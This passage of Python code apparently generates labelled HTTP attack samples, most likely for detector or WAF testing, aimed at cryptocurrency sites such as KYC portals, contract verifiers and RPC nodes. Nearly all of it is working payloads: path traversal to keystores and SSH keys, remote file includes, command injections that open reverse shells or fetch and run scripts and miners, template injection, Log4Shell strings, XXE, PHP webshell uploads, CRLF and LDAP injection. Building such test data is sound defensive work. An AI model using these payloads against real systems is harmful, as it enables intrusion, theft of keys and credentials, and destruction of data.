    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "....//....//....//....//etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "../../../../root/.ethereum/keystore/UTC--2024-01-01T00-00-00.000Z--" + "a" * 40,
    "../../../home/geth/.ethereum/geth/nodekey",
    "../../../../app/.env",
    "../../../../proc/self/environ",
    "..\\..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config",
    "/etc/passwd",
    "../../../../etc/passwd%00.json",
    "..%2F..%2F..%2F..%2Fvar%2Flib%2Fkyc%2Fexport.csv",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/home/ubuntu/.ssh/id_rsa",
    "..;/..;/..;/WEB-INF/web.xml",
    "/proc/self/cwd/config/secrets.yml",
    "../../../../../../root/.bash_history",
    "..%u2216..%u2216..%u2216etc%u2216passwd",
    "../../../../opt/solana/validator-keypair.json",
    "file:/etc/hosts",
]


def attacks_lfi():
    cat = "lfi"
    for i, p in enumerate(LFI):
        raw_enc = "%" in p  # already encoded by the attacker: send as is
        k = i % 6
        if k == 0:
            add("attacks", "token-metadata-path-lfi", cat, "GET",
                "/api/metadata/" + (p if raw_enc else p.replace("\\", "%5c")),
                H_NFTAPI, tool_headers(accept="application/json"))
        elif k == 1:
            add("attacks", "kyc-download-lfi", cat, "GET",
                "/api/kyc/documents/download?file=" + (p if raw_enc else q(p)), H_KYC,
                xhr_headers(auth="Bearer " + jwt(), cookie=False))
        elif k == 2:
            add("attacks", "ipfs-gateway-lfi", cat, "GET",
                "/ipfs/" + cid() + "/" + (p if raw_enc else p.replace("\\", "%5c")), "ipfs.example.com",
                tool_headers())
        elif k == 3:
            add("attacks", "tokenuri-fetch-lfi", cat, "POST", "/api/v1/metadata/render", H_NFTAPI,
                xhr_headers("application/json", origin="https://" + H_NFT),
                json.dumps({"template": "default", "path": p}))
        elif k == 4:
            add("attacks", "explorer-export-lfi", cat, "GET",
                "/exportData?" + "type=tokentxns&a=" + addr() + "&fmt=" + (p if raw_enc else q(p)), H_SCAN,
                browser_headers())
        else:
            add("attacks", "kyc-template-lfi", cat, "GET",
                "/kyc/view?doc=" + (p if raw_enc else q(p)) + "&type=passport", H_KYC,
                browser_headers())
    # solc import of a host file / allow-paths abuse in verification
    src = ('// SPDX-License-Identifier: MIT\npragma solidity ^0.8.20;\nimport "/etc/passwd";\n'
           'contract T { }\n')
    add("attacks", "solc-import-lfi", cat, "POST", "/api/contract/verify", H_SCAN,
        sdk_headers(ua="python-requests/2.31.0"),
        json.dumps({"address": addr(), "compilerVersion": "v0.8.24+commit.e11b9ed9",
                    "sourceCode": src, "allowPaths": "/"}))
    add("attacks", "solc-remap-lfi", cat, "POST", "/api/contract/verify-standard-json", H_SCAN,
        sdk_headers(ua="python-requests/2.31.0"),
        json.dumps({"address": addr(), "compilerVersion": "v0.8.21+commit.d9974bed",
                    "input": {"language": "Solidity",
                              "sources": {"A.sol": {"urls": ["/root/.ethereum/keystore/*"]},
                                          "B.sol": {"urls": ["../../../../etc/shadow"]}},
                              "settings": {"remappings": ["x=/root/.ssh/"]}}}))
    # curl --path-as-is raw traversal
    add("attacks", "raw-traversal-lfi", cat, "GET", "/static/../../../../etc/passwd", H_NFT,
        [["User-Agent", "curl/7.88.1"], ["Accept", "*/*"]])
    add("attacks", "raw-traversal-lfi", cat, "GET", "/assets/..%2f..%2f..%2f.ethereum%2fkeystore%2f", H_WALLET,
        [["User-Agent", "curl/7.88.1"], ["Accept", "*/*"]])


# ---------------- RFI ---------------------------------------------------

def attacks_rfi():
    cat = "rfi"
    items = [
        ("/forum/index.php?page=" + q("http://attacker.example.net/shell.txt?"), H_FORUM),
        ("/index.php?lang=" + q("https://attacker.example.net/r57.txt%00"), H_FORUM),
        ("/plugins/tipbot/tip.php?config=" + q("ftp://203.0.113.77/pub/c99.php"), H_FORUM),
        ("/nft/render.php?tpl=" + q("http://198.51.100.23/x.txt??"), H_NFT),
        ("/kyc/include.php?module=" + q("https://attacker.example.net/backdoor.php"), H_KYC),
        ("/explorer/view.php?file=" + q("http://attacker.example.net/webshell.txt") + "&cmd=id", H_SCAN),
        ("/wp-content/plugins/crypto-pay/includes/init.php?abspath=" + q("http://203.0.113.9/wso.txt?"),
         "shop.example.com"),
        ("/forum/viewtopic.php?style=" + q("\\\\203.0.113.40\\share\\evil.php"), H_FORUM),
    ]
    for u, h in items:
        add("attacks", "remote-include-rfi", cat, "GET", u, h, tool_headers(accept=ACCEPT_HTML))
    add("attacks", "remote-include-rfi", cat, "POST", "/forum/admin/theme.php", H_FORUM,
        tool_headers("application/x-www-form-urlencoded"),
        qs([("template_path", "http://attacker.example.net/inc.txt?"), ("save", "1")]))


# ---------------- RCE: contract verification / solc, uploads, tools -----

CMDI = [
    "v0.8.24+commit.e11b9ed9; curl -s http://203.0.113.7/x.sh | sh",
    "v0.8.19+commit.7dd6d404 && cat /etc/passwd",
    "v0.8.20$(id)",
    "v0.7.6+commit.7338295f`wget -qO- http://198.51.100.14/m|bash`",
    "0.8.26 | nc 203.0.113.9 4444 -e /bin/sh",
    "v0.8.23+commit.f704f362%0aid",
    "v0.8.17;bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
    "latest || ping -c 20 127.0.0.1",
    "0.8.25;${IFS}cat${IFS}/root/.ethereum/keystore/*",
    "v0.8.4;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "v0.6.12 & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "$(nslookup `whoami`.oast.example.net)",
]

SOLC_FLAGS = [
    "--optimize --optimize-runs 200 --output-dir /var/www/html/ --overwrite; id",
    "--via-ir --standard-json < /dev/null; curl http://203.0.113.7/$(hostname)",
    "--combined-json abi,bin `cat /etc/shadow | base64 -w0 | curl -d @- http://203.0.113.7/`",
    "--evm-version paris && rm -rf / --no-preserve-root",
    "-o /tmp/out; wget http://198.51.100.14/xmrig -O /tmp/k && chmod +x /tmp/k && /tmp/k",
    "--allow-paths / --base-path / ; cat /root/.ssh/id_rsa",
]


def attacks_rce():
    cat = "rce"
    for i, p in enumerate(CMDI):
        k = i % 4
        if k == 0:
            add("attacks", "verify-compiler-rce", cat, "POST", "/api/contract/verify", H_SCAN,
                sdk_headers(ua=rng.choice(TOOLS)),
                json.dumps({"address": addr(), "compilerVersion": p, "optimization": True, "runs": 200,
                            "contractName": "Token", "sourceCode": "pragma solidity ^0.8.0; contract Token {}"}))
        elif k == 1:
            add("attacks", "etherscan-verify-form-rce", cat, "POST", "/api", H_SCAN,
                tool_headers("application/x-www-form-urlencoded"),
                qs([("module", "contract"), ("action", "verifysourcecode"), ("apikey", b58(34)),
                    ("contractaddress", addr()), ("codeformat", "solidity-single-file"),
                    ("contractname", "Vault"), ("compilerversion", p), ("optimizationUsed", "1"),
                    ("runs", "200"), ("sourceCode", "pragma solidity 0.8.19; contract Vault {}")]))
        elif k == 2:
            body, ct = multipart([("compiler", p), ("license", "MIT"), ("evmVersion", "default"),
                                  ("file", "Vault.sol", "application/octet-stream",
                                   "pragma solidity ^0.8.0;\ncontract Vault { uint256 public x; }\n")])
            add("attacks", "verify-multipart-rce", cat, "POST", "/verifyContract/upload", H_SCAN,
                browser_headers() + [["Content-Type", ct]], body)
        else:
            add("attacks", "solc-download-rce", cat, "GET", "/api/solc/bin?version=" + q(p), H_SCAN,
                tool_headers())
    for i, f in enumerate(SOLC_FLAGS):
        add("attacks", "solc-options-rce", cat, "POST", "/api/v2/smart-contracts/%s/verification/via/flattened-code" % addr(),
            H_SCAN, xhr_headers("application/json", origin="https://" + H_SCAN, ua=rng.choice(TOOLS)),
            json.dumps({"compiler_version": "v0.8.24+commit.e11b9ed9", "license_type": "mit",
                        "source_code": "pragma solidity ^0.8.0; contract A {}", "is_optimization_enabled": True,
                        "optimization_runs": 200, "evm_version": "default", "compiler_options": f}))
    # node diagnostics tool: ping / rpc health check
    diag = [
        ("/admin/tools/ping?host=" + q("10.0.0.8; cat /etc/passwd"), H_RPC),
        ("/api/node/health?endpoint=" + q("http://10.0.0.8:8545 -o /tmp/x; sh /tmp/x"), H_RPC),
        ("/api/tools/traceroute?target=" + q("8.8.8.8|id"), H_RPC2),
        ("/api/v1/snapshot/restore?name=" + q("mainnet-2024-06.tar.zst$(curl${IFS}203.0.113.7)"), H_RPC2),
    ]
    for u, h in diag:
        add("attacks", "node-diag-rce", cat, "GET", u, h, tool_headers(accept="application/json"))
    # ImageTragick-style MVG in a KYC selfie upload
    mvg = ("push graphic-context\nviewbox 0 0 640 480\n"
           "fill 'url(https://example.com/image.jpg\"|curl -s http://203.0.113.7/k.sh|sh\")'\npop graphic-context\n")
    body, ct = multipart([("docType", "selfie"), ("file", "selfie.png", "image/png", mvg)])
    add("attacks", "kyc-imagetragick-rce", cat, "POST", "/api/kyc/upload", H_KYC,
        xhr_headers(ct, origin="https://" + H_KYC, auth="Bearer " + jwt()), body)
    # Ghostscript PostScript disguised as PDF
    ps = ("%!PS-Adobe-3.0\n%%BoundingBox: 0 0 100 100\nuserdict /setpagedevice undef\nsave\n"
          "legal\n{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\n"
          "mark /OutputFile (%pipe%id > /tmp/pwn) currentdevice putdeviceprops\n")
    body, ct = multipart([("docType", "proof_of_address"), ("file", "utility-bill.pdf", "application/pdf", ps)])
    add("attacks", "kyc-ghostscript-rce", cat, "POST", "/api/kyc/upload", H_KYC,
        xhr_headers(ct, origin="https://" + H_KYC, auth="Bearer " + jwt()), body)
    # shellshock against cgi on a legacy faucet
    add("attacks", "faucet-shellshock-rce", cat, "GET", "/cgi-bin/faucet.cgi?addr=" + addr(), "faucet.example.com",
        [["User-Agent", "() { :; }; /bin/bash -c 'curl http://203.0.113.7/s | sh'"], ["Accept", "*/*"]])
    add("attacks", "faucet-shellshock-rce", cat, "GET", "/cgi-bin/status", "faucet.example.com",
        [["User-Agent", "curl/7.88.1"], ["Accept", "*/*"], ["Referer", "() { ignored; }; echo; /usr/bin/id"]])
    # Node.js eval in a "custom script" price alert
    add("attacks", "alert-script-rce", cat, "POST", "/api/alerts", H_DEFI,
        xhr_headers("application/json", origin="https://" + H_DEFI),
        json.dumps({"pair": "ETH/USDT", "condition": "price > 4000; require('child_process').execSync('cat /etc/passwd')",
                    "notify": "email"}))


# ---------------- SSTI: notification / alert / email templates -----------

SSTI = [
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('ls /').read() }}{% endif %}{% endfor %}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('env').read() }}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['cat /etc/passwd']|filter('system')}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
    "<%= `cat /etc/passwd` %>",
    "<%= system('id') %>",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "__${T(java.lang.Runtime).getRuntime().exec(\"curl http://203.0.113.7/x\")}__::.x",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{system('cat /etc/passwd')}",
    "${self.module.cache.util.os.system(\"id\")}",
    "<%= process.mainModule.require('child_process').execSync('whoami') %>",
    "{% import os %}{{ os.popen(\"id\").read() }}",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "{{ config.__class__.__init__.__globals__['os'].environ }}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
]


def attacks_ssti():
    cat = "ssti"
    for i, p in enumerate(SSTI):
        k = i % 5
        if k == 0:
            add("attacks", "notify-template-ssti", cat, "PUT", "/api/v1/notifications/templates/order_filled", H_EX,
                xhr_headers("application/json", origin="https://" + H_EXWEB, auth="Bearer " + jwt()),
                json.dumps({"channel": "email", "subject": "Order filled",
                            "body": "Hi {{ user.name }}, your order was filled. " + p}))
        elif k == 1:
            add("attacks", "alert-message-ssti", cat, "POST", "/api/alerts", H_DEFI,
                xhr_headers("application/json", origin="https://" + H_DEFI),
                json.dumps({"pair": rng.choice(PAIRS), "above": "3800", "message": p, "notify": "telegram"}))
        elif k == 2:
            add("attacks", "webhook-format-ssti", cat, "POST", "/v1/webhooks", H_HOOK,
                sdk_headers(extra=[["Authorization", "Bearer " + b58(40)]]),
                json.dumps({"url": "https://hooks.example.com/in/" + b58(12), "network": "eth-mainnet",
                            "events": ["MINED_TRANSACTION"], "payloadTemplate": p}))
        elif k == 3:
            add("attacks", "forum-signature-ssti", cat, "POST", "/u/preferences/profile", H_FORUM,
                browser_headers() + [["Content-Type", "application/x-www-form-urlencoded"]],
                qs([("bio", p), ("website", "https://example.org")]))
        else:
            add("attacks", "email-preview-ssti", cat, "GET", "/api/v1/notifications/preview?tpl=" + q(p), H_EX,
                xhr_headers(auth="Bearer " + jwt(), cookie=False))


# ---------------- Java: Log4Shell on Java nodes, Spring, deserialization --

JNDI = [
    "${jndi:ldap://203.0.113.7:1389/Exploit}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.14/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.7:1099/obj}",
    "${jndi:dns://log4j.oast.example.net/x}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.7/z}",
    "${jndi:ldaps://attacker.example.net/${sys:java.version}}",
    "${${upper:j}ndi:${upper:l}dap://203.0.113.7/${env:AWS_SECRET_ACCESS_KEY}}",
    "${jndi:${lower:r}mi://198.51.100.14:1099/Basic/Command/Base64/aWQ=}",
]


def attacks_java():
    cat = "java"
    hdr = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization", "Cookie",
           "X-Request-Id", "Accept-Language"]
    for i, p in enumerate(JNDI):
        h = hdr[i]
        value = p
        if h == "Authorization":
            value = "Bearer " + p
        elif h == "Cookie":
            value = "JSESSIONID=" + p
        headers = [["User-Agent", p if h == "User-Agent" else rng.choice(SDKS)], ["Accept", "application/json"],
                   ["Content-Type", "application/json"]]
        if h != "User-Agent":
            headers.append([h, value])
        add("attacks", "besu-header-log4shell", cat, "POST", "/", H_RPC2, headers,
            rpc_body("eth_blockNumber", []))
    add("attacks", "rpc-param-log4shell", cat, "POST", "/", H_RPC2, sdk_headers(ua="curl/7.88.1"),
        rpc_body("eth_getBalance", ["${jndi:ldap://203.0.113.7:1389/a}", "latest"]))
    add("attacks", "query-log4shell", cat, "GET",
        "/api/v1/blocks?tag=" + q("${jndi:ldap://198.51.100.14/b}"), "teku.example.net",
        tool_headers(accept="application/json"))
    # Spring4Shell on a Java custody backend
    add("attacks", "spring4shell", cat, "POST", "/custody/withdrawals", "custody.example.com",
        tool_headers("application/x-www-form-urlencoded"),
        qs([("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
             "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]))
    # Spring Cloud Function routing expression
    add("attacks", "spring-cloud-function-spel", cat, "POST", "/functionRouter", "custody.example.com",
        [["User-Agent", "python-requests/2.31.0"], ["Accept", "*/*"], ["Content-Type", "text/plain"],
         ["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"]],
        "test")
    # Struts OGNL in Content-Type
    add("attacks", "struts-ognl", cat, "POST", "/kyc/upload.action", H_KYC,
        [["User-Agent", "Mozilla/5.0"], ["Accept", "*/*"],
         ["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros))}"]],
        "")
    # serialized Java object in a cookie / param (ysoserial CommonsCollections prefix)
    ser = "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAQm9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9uczQuY29tcGFyYXRvcnMuVHJhbnNmb3JtaW5nQ29tcGFyYXRvcg=="
    add("attacks", "java-deser-cookie", cat, "GET", "/custody/dashboard", "custody.example.com",
        [["User-Agent", "Mozilla/5.0"], ["Accept", ACCEPT_HTML], ["Cookie", "rememberMe=" + ser]])
    add("attacks", "java-deser-param", cat, "POST", "/custody/api/session/restore", "custody.example.com",
        tool_headers("application/x-www-form-urlencoded"), qs([("state", ser)]))
    # Jackson polymorphic gadget in JSON
    add("attacks", "jackson-gadget", cat, "POST", "/custody/api/policies", "custody.example.com",
        sdk_headers(ua="python-requests/2.31.0"),
        json.dumps({"name": "hot-wallet-limit",
                    "rule": ["com.sun.rowset.JdbcRowSetImpl",
                             {"dataSourceName": "ldap://203.0.113.7:1389/Exploit", "autoCommit": True}]}))


# ---------------- XXE: KYC XML, ISO 20022 fiat ramp, SVG uploads ---------

def attacks_xxe():
    cat = "xxe"
    file_ent = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE kyc [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    docs = [
        ("/api/kyc/submit", H_KYC, "application/xml",
         file_ent + "<applicant><firstName>&xxe;</firstName><lastName>Doe</lastName><country>DE</country></applicant>"),
        ("/api/kyc/provider/callback", H_KYC, "text/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://203.0.113.7/evil.dtd"> %ext;]>\n'
         '<verification><status>approved</status><applicantId>a-1</applicantId></verification>'),
        ("/api/ramp/iso20022", "ramp.example.com", "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY k SYSTEM "file:///root/.ethereum/keystore/">]>\n'
         '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"><CstmrCdtTrfInitn><GrpHdr>'
         '<MsgId>&k;</MsgId><NbOfTxs>1</NbOfTxs></GrpHdr></CstmrCdtTrfInitn></Document>'),
        ("/api/kyc/submit", H_KYC, "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY % d SYSTEM "file:///proc/self/environ">'
         '<!ENTITY % o "<!ENTITY &#x25; x SYSTEM \'http://203.0.113.7/?d=%d;\'>">%o;%x;]>\n<applicant/>'),
        ("/soap/KycService", H_KYC, "text/xml; charset=utf-8",
         '<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n'
         '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
         '<GetStatus><ref>&x;</ref></GetStatus></soap:Body></soap:Envelope>'),
        ("/api/kyc/submit", H_KYC, "application/xml",
         '<applicant xmlns:xi="http://www.w3.org/2001/XInclude"><firstName>'
         '<xi:include parse="text" href="file:///etc/shadow"/></firstName></applicant>'),
        ("/api/ramp/iso20022", "ramp.example.com", "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
         '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
         '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
         '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>\n<Document>&lol4;</Document>'),
        ("/rss/tx-feed/subscribe", H_SCAN, "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/.env">]>\n'
         '<subscription><address>&xxe;</address></subscription>'),
        ("/api/kyc/submit", H_KYC, "application/xml",
         '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE x SYSTEM "http://198.51.100.14/x.dtd">\n<applicant><c>&e;</c></applicant>'),
    ]
    for path, host, ct, body in docs:
        add("attacks", "kyc-xml-xxe", cat, "POST", path, host,
            sdk_headers(ctype=ct, ua=rng.choice(TOOLS)), body)
    svg = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
           '<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&xxe;</text></svg>')
    body, ct = multipart([("docType", "id_front"), ("file", "passport.svg", "image/svg+xml", svg)])
    add("attacks", "kyc-svg-xxe", cat, "POST", "/api/kyc/upload", H_KYC,
        xhr_headers(ct, origin="https://" + H_KYC, auth="Bearer " + jwt()), body)
    body, ct = multipart([("name", "Frog #1"), ("image", "frog.svg", "image/svg+xml",
                                                 svg.replace("/etc/hostname", "/root/.ssh/id_rsa"))])
    add("attacks", "nft-svg-xxe", cat, "POST", "/api/v1/items/upload", H_NFTAPI,
        xhr_headers(ct, origin="https://" + H_NFT, auth="Bearer " + jwt()), body)
    add("attacks", "xml-param-xxe", cat, "POST", "/api/ramp/quote", "ramp.example.com",
        tool_headers("application/x-www-form-urlencoded"),
        qs([("format", "xml"), ("request", '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY f SYSTEM "file:///etc/passwd">]><quote><amount>&f;</amount></quote>')]))


# ---------------- PHP: wrappers, object injection, uploads, php-cgi -----

def attacks_php():
    cat = "php"
    add("attacks", "php-filter-wrapper", cat, "GET",
        "/nft/metadata.php?uri=" + q("php://filter/convert.base64-encode/resource=../config/database.php"), H_NFT,
        tool_headers())
    add("attacks", "php-filter-wrapper", cat, "GET",
        "/forum/index.php?page=" + q("php://filter/read=string.rot13/resource=index.php"), H_FORUM,
        tool_headers())
    add("attacks", "php-data-wrapper", cat, "GET",
        "/nft/metadata.php?uri=" + q("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==") + "&c=id",
        H_NFT, tool_headers())
    add("attacks", "php-expect-wrapper", cat, "GET", "/kyc/view.php?doc=" + q("expect://id"), H_KYC, tool_headers())
    add("attacks", "php-phar-wrapper", cat, "POST", "/kyc/thumbnail.php", H_KYC,
        tool_headers("application/x-www-form-urlencoded"),
        qs([("path", "phar:///var/www/uploads/kyc/8812/selfie.jpg/test.txt")]))
    add("attacks", "php-input-wrapper", cat, "POST", "/forum/index.php?page=php://input", H_FORUM,
        tool_headers("application/x-www-form-urlencoded"), "<?php system('cat /etc/passwd'); ?>")
    # object injection in a cookie
    obj = 'O:8:"Listener":2:{s:4:"file";s:19:"/var/www/html/x.php";s:4:"data";s:30:"<?php eval($_POST[\'k\']); ?>";}'
    add("attacks", "php-object-injection", cat, "GET", "/forum/", H_FORUM,
        [["User-Agent", rng.choice(TOOLS)], ["Accept", ACCEPT_HTML], ["Cookie", "wallet_prefs=" + q(obj)]])
    add("attacks", "php-object-injection", cat, "POST", "/shop/checkout/crypto", "shop.example.com",
        tool_headers("application/x-www-form-urlencoded"),
        qs([("cart", 'a:1:{i:0;O:21:"GuzzleHttp\\Psr7\\FnStream":1:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"phpinfo";}}}')]))
    # web shell disguised as KYC document
    shell = "GIF89a;\n<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); } ?>\n"
    body, ct = multipart([("docType", "passport"), ("file", "passport.jpg.php", "image/jpeg", shell)])
    add("attacks", "kyc-webshell-upload", cat, "POST", "/api/kyc/upload", H_KYC,
        xhr_headers(ct, origin="https://" + H_KYC, auth="Bearer " + jwt()), body)
    body, ct = multipart([("avatar", "gm.phtml", "image/png", "<?=`$_GET[0]`?>")])
    add("attacks", "forum-avatar-webshell", cat, "POST", "/uploads.json?type=avatar", H_FORUM,
        xhr_headers(ct, origin="https://" + H_FORUM), body)
    # php-cgi argument injection (CVE-2012-1823 / CVE-2024-4577 soft hyphen)
    add("attacks", "php-cgi-argv", cat, "POST",
        "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "faucet.example.com",
        tool_headers("application/x-www-form-urlencoded"), "<?php echo shell_exec('id'); ?>")
    add("attacks", "php-cgi-argv", cat, "POST",
        "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "faucet.example.com",
        tool_headers("application/x-www-form-urlencoded"), "<?php system('whoami'); ?>")
    # eval / assert injection in a param
    add("attacks", "php-code-param", cat, "GET",
        "/faucet/claim.php?addr=" + q("0x0';system('id');//"), "faucet.example.com", tool_headers())
    add("attacks", "php-code-param", cat, "POST", "/forum/admin/eval.php", H_FORUM,
        tool_headers("application/x-www-form-urlencoded"),
        qs([("code", "file_put_contents('s.php','<?php @eval($_POST[1]);?>');"), ("run", "1")]))


# ---------------- CRLF / header injection -----------------------------

def attacks_crlf():
    cat = "crlf"
    items = [
        ("/auth/siwe/callback?redirect=%2Fportfolio%0D%0ASet-Cookie%3A%20sid%3Dattacker-fixed-session", H_WALLET),
        ("/connect?returnTo=%2F%0d%0aLocation%3a%20https%3a%2f%2fattacker.example.net%2fdrainer", H_DEFI),
        ("/lang/set?l=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E",
         H_EXWEB),
        ("/r?u=%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1", H_NFT),
        ("/logout?next=%0aX-Forwarded-Host:%20attacker.example.net", H_FORUM),
        ("/api/v1/referral/%0d%0aSet-Cookie:ref=evil;Domain=.example.com", H_EXWEB),
    ]
    for u, h in items:
        add("attacks", "redirect-crlf", cat, "GET", u, h, tool_headers(accept=ACCEPT_HTML))
    add("attacks", "webhook-header-crlf", cat, "POST", "/v1/webhooks", H_HOOK,
        sdk_headers(extra=[["Authorization", "Bearer " + b58(40)]]),
        json.dumps({"url": "https://hooks.example.com/in/abc", "events": ["NFT_ACTIVITY"],
                    "headers": {"X-Token": "abc\r\nHost: 169.254.169.254\r\n\r\nGET /latest/meta-data/ HTTP/1.1"}}))
    add("attacks", "contact-mail-crlf", cat, "POST", "/support/contact", H_KYC,
        browser_headers() + [["Content-Type", "application/x-www-form-urlencoded"]],
        "name=Anna&email=anna%40example.com%0d%0aBcc%3a%20victims%40example.org&subject=KYC%20status%0d%0aContent-Type%3a%20text%2fhtml&message=hello")


# ---------------- LDAP injection: custody / KYC back-office directory ----

def attacks_ldapi():
    cat = "ldapi"
    add("attacks", "backoffice-ldap", cat, "GET", "/admin/users?uid=" + q("*)(uid=*))(|(uid=*"),
        "custody.example.com", tool_headers(accept=ACCEPT_JSON))
    add("attacks", "backoffice-ldap", cat, "POST", "/sso/login", "custody.example.com",
        tool_headers("application/x-www-form-urlencoded"), qs([("username", "admin)(&)"), ("password", "x")]))
    add("attacks", "backoffice-ldap", cat, "POST", "/sso/login", H_KYC,
        tool_headers("application/x-www-form-urlencoded"),
        qs([("username", "*)(userPassword=*"), ("password", "*")]))
    add("attacks", "backoffice-ldap", cat, "GET",
        "/api/directory/search?q=" + q("*)(|(objectClass=*)") + "&attrs=cn,mail", "custody.example.com",
        xhr_headers(cookie=True))
    add("attacks", "backoffice-ldap", cat, "POST", "/api/directory/approvers", "custody.example.com",
        xhr_headers("application/json"),
        json.dumps({"user": "*)(memberOf=cn=custody-admins,ou=groups,dc=example,dc=com"}))
    add("attacks", "backoffice-ldap", cat, "GET",
